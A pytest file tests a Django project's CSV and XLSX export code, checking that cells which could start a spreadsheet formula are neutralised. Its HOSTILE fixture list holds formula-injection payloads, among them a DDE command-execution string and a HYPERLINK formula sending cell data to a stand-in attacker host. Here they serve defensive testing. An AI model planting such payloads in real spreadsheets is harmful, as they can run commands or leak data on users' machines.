"""Exports that open inert (E13)."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from studio.sheets import LONGEST_CELL, Table, csv_lines, inert, xlsx
from studio.tests.costs import growth

BERLIN = ZoneInfo("Europe/Berlin")
HOSTILE = [
    "=1+1",
    "=",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://thief.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd",
    "@SUM(1+1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "-3.5%",
    "+41 79 CALL",
    "+",
    "-",
    "+()",
]
HARMLESS = [
    "",
    "Ida",
    "1+1=2",
    "ida+mats@visitor.example",
    "a = b",
    "'=1",
    "#N/A",
    "5 - 3",
    "Yes, -3",
    "https://visitor.example/?a=b",
]
NUMBERS = [
    "+41 79 123 45 67",
    "+41791234567",
    "+49 (30) 123-456/7.8",
    "+ 41 79",
    "+(41) 79",
    " +41 79",
    "+41 79 ",
    "-3.5",
    "-3",
    "+3,5",
    "-1,000.50",
    "3.5",
]


def csv_text(*rows, columns=("A", "B")):
    return "".join(csv_lines(Table(columns, rows)))


def read_csv(text, **how):
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text[1:], newline=""), strict=True, **how))


def read_sheet(*rows, columns=("A", "B"), title="People"):
    return load_workbook(BytesIO(xlsx(Table(columns, rows), title=title))).active


def one_cell(value):
    return read_sheet([value], columns=["A"])["A2"]


# --- CSV ------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_cell_gets_an_apostrophe(value):
    assert inert(value) == "'" + value
    assert read_csv(csv_text(["Ida", value]))[1] == ["Ida", "'" + value]


@pytest.mark.parametrize("value", HARMLESS + NUMBERS)
def test_what_is_harmless_stays_as_typed(value):
    assert inert(value) == value
    assert read_csv(csv_text(["Ida", value]))[1] == ["Ida", value]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("\t1", "'\t1"),
        ("\r1", "'\r1"),
        ("\n1", "'\n1"),
        (" \t1", "' \t1"),
        ("\t=1", "'\t'=1"),
        ("Yes\n=1+1", "Yes\n'=1+1"),
        ("Yes\r\n =1+1", "Yes\r\n' =1+1"),
        ("- one\n- two\n3", "'- one\n'- two\n3"),
        ("see;=1+1;x", "see;'=1+1;x"),
        ('see;"=1+1', "see;'\"=1+1"),
        ("see\t@SUM(1)", "see\t'@SUM(1)"),
        ("see\u2028=1", "see\u2028'=1"),
        ("call\n+41 79 123 45 67\nor\n-3.5", "call\n+41 79 123 45 67\nor\n-3.5"),
        ("+41 79\n=1", "+41 79\n'=1"),
        (";;=1", ";;'=1"),
    ],
)
def test_a_cell_is_inert_wherever_a_program_could_split_it(value, expected):
    assert inert(value) == expected


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("value", [*HOSTILE, "x;=1+1", 'x;"=1+1', "x\t=1", "x\n=1", '";=1', "\t=1"])
def test_no_cell_begins_a_formula_whatever_separator_a_program_is_set_to(value, separator):
    text = csv_text([value, value], ["Ida", value], columns=[value, "B"])
    cells = [
        cell
        for row in csv.reader(StringIO(text[1:], newline=""), delimiter=separator)
        for cell in row
    ]
    # a program may take quotation marks for text, and passes over what is not seen
    begins = [cell.lstrip(' \t\r\n\u00a0\u3000\u200b\ufeff"')[:1] for cell in cells]
    assert not {*begins} & {*"=+-@＝＋－＠﹦"}


def test_a_csv_is_what_rfc_4180_says():
    rows = [["Ida", 'a "mat", please'], ["Juno", "one\ntwo"], ["Ö 🤸", None]]
    assert csv_text(*rows, columns=["Name", "Note; more"]) == (
        '\ufeffName,Note; more\r\nIda,"a ""mat"", please"\r\nJuno,"one\ntwo"\r\nÖ 🤸,\r\n'
    )


def test_a_csv_is_made_line_by_line():
    read = []

    def rows():
        for number in range(3):
            read.append(number)
            yield [number]

    lines = csv_lines(Table(["A"], rows()))
    assert next(lines) == "\ufeffA\r\n"
    assert (next(lines), read) == ("0\r\n", [0])


def test_a_csv_shows_values_as_people_read_them():
    row = [
        3,
        Decimal("12.50"),
        True,
        False,
        date(2026, 5, 9),
        datetime(2026, 5, 9, 10, tzinfo=BERLIN),
        datetime(2026, 5, 9, 8, tzinfo=UTC),
        gettext_lazy("Confirmed"),
        -3.5,
        float("inf"),
    ]
    assert csv_text(row, columns=["A"]).split("\r\n")[1] == (
        "3,12.50,Yes,No,2026-05-09,2026-05-09 10:00:00,2026-05-09 08:00:00,Confirmed,-3.5,inf"
    )


def test_the_labels_of_columns_are_inert_too():
    assert read_csv(csv_text(columns=["=1+1", "+41 79"])) == [["'=1+1", "+41 79"]]


# --- both -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a\x00b\x07c\x1b", "abc"),
        ("a\ufffeb\uffff\ud800c", "abc"),
        ("a\r\nb\rc\u2028d", "a\nb\nc\nd"),
        ("\x00=1+1", "=1+1"),
    ],
)
def test_what_no_file_can_hold_is_left_out(value, expected):
    assert one_cell(value).value == expected
    assert read_csv(csv_text([value], columns=["A"]))[1] == [inert(expected)]


@pytest.mark.parametrize("sign", ["x", "=", "🤸"])
def test_a_cell_that_excel_could_not_hold_is_cut(sign):
    units = len(sign.encode("utf-16-le")) // 2
    whole = sign * (LONGEST_CELL // units)
    assert one_cell(whole).value == whole
    for value in (one_cell(sign * 40_000).value, read_csv(csv_text([sign * 40_000]))[1][0]):
        assert value.endswith(sign + "…")
        assert LONGEST_CELL - units < len(value.encode("utf-16-le")) // 2 <= LONGEST_CELL


def test_hostile_signs_without_end_take_no_time():
    for piece in ["\n", " ", "=", '"', ";", "+1 ", "-1,", "\n=", "+(", "\n+ "]:
        times = growth(lambda size, piece=piece: inert(piece * size + "x"), 12_500 // len(piece))
        assert times < 24, piece


# --- XLSX -----------------------------------------------------------------------


@pytest.mark.parametrize("value", [*HOSTILE, *filter(None, HARMLESS), *NUMBERS, "\t=1", "x\n=1"])
def test_a_text_is_stored_as_text(value):
    cell = one_cell(value)
    assert (cell.value, cell.data_type, cell.hyperlink) == (value, "s", None)


def test_a_text_that_looks_like_a_formula_stays_text_when_it_is_edited():
    sheet = read_sheet(["=1+1", "Ida"], ["#N/A", "+41 79"], columns=["=2+2", "B"])
    found = {cell.value: cell.quotePrefix for row in sheet for cell in row}
    marked = {value for value, is_marked in found.items() if is_marked}
    assert marked == {"=1+1", "=2+2", "#N/A", "+41 79"}


def test_no_formula_is_in_the_file():
    file = ZipFile(BytesIO(xlsx(Table(HOSTILE, [HOSTILE]), title="=1+1")))
    sheet = file.read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in sheet.replace("<fonts", "")
    assert "hyperlink" not in sheet.casefold().replace("=hyperlink(", "")


def test_what_excel_would_decode_is_encoded():
    file = ZipFile(BytesIO(xlsx(Table(["A"], [["_x003D_1"], ["a_x000a_b"], ["_x"]]), title="A")))
    sheet = file.read("xl/worksheets/sheet1.xml").decode()
    for stored in (">_x005F_x003D_1<", ">a_x005F_x000a_b<", ">_x<"):
        assert stored in sheet


def test_values_keep_their_kind():
    row = [
        3,
        Decimal("12.5"),
        -3.5,
        date(2026, 5, 9),
        datetime(2026, 5, 9, 10, tzinfo=BERLIN),
        datetime(2026, 5, 9, 8, tzinfo=UTC),
        True,
        None,
        "",
        gettext_lazy("Confirmed"),
        "007",
        10**15,
        float("nan"),
        date(1848, 3, 1),
    ]
    cells = read_sheet(row, columns=["A"] * len(row))[2]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        (3, "n"),
        (12.5, "n"),
        (-3.5, "n"),
        (datetime(2026, 5, 9), "d"),
        (datetime(2026, 5, 9, 10), "d"),
        (datetime(2026, 5, 9, 8), "d"),
        ("Yes", "s"),
        (None, "n"),
        (None, "n"),
        ("Confirmed", "s"),
        ("007", "s"),
        ("1000000000000000", "s"),
        ("nan", "s"),
        ("1848-03-01", "s"),
    ]
    assert [cells[3].number_format, cells[4].number_format] == ["yyyy-mm-dd", "yyyy-mm-dd h:mm:ss"]


def test_the_header_is_bold_and_stays_in_sight():
    sheet = read_sheet(["Ida", 1], columns=[gettext_lazy("Name"), "Seats"])
    assert [(cell.value, cell.font.b) for cell in sheet[1]] == [("Name", True), ("Seats", True)]
    assert [cell.font.b for cell in sheet[2]] == [False, False]
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Trunk Training", "Trunk Training"),
        ("Trunk: [9/5] *new*?\\", "Trunk 9 5 new"),
        ("x" * 40, "x" * 30 + "…"),
        ("🤸" * 31, "🤸" * 15 + "…"),
        ("'Trunk'", "Trunk"),
        ("a\nb\x00", "a b"),
        ("", "Table"),
        ("???", "Table"),
        ("History", "Table"),
        ("=1+1", "=1+1"),
    ],
)
def test_a_sheet_has_a_name_that_excel_accepts(title, expected):
    assert read_sheet(title=title).title == expected


def test_a_table_without_rows_has_its_header():
    assert [[cell.value for cell in row] for row in read_sheet()] == [["A", "B"]]
